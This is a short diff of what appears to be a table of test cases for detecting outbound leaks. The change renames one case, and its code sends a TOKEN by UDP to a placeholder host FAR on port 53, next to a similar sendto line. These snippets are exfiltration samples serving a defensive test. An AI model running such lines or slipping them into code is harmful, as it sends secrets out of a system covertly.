@@ -180,7 +180,7 @@ s.sendto(TOKEN, (FAR, PORT))`,
   },
   {
     row: 'more',
-    name: 'UDP to port 53 of what is no resolver',
+    name: 'UDP to port 53 of an outside host',
     hooks: UDP,
     code: `socket.socket(I, DGRAM).sendto(TOKEN, (FAR, 53))`,
   },
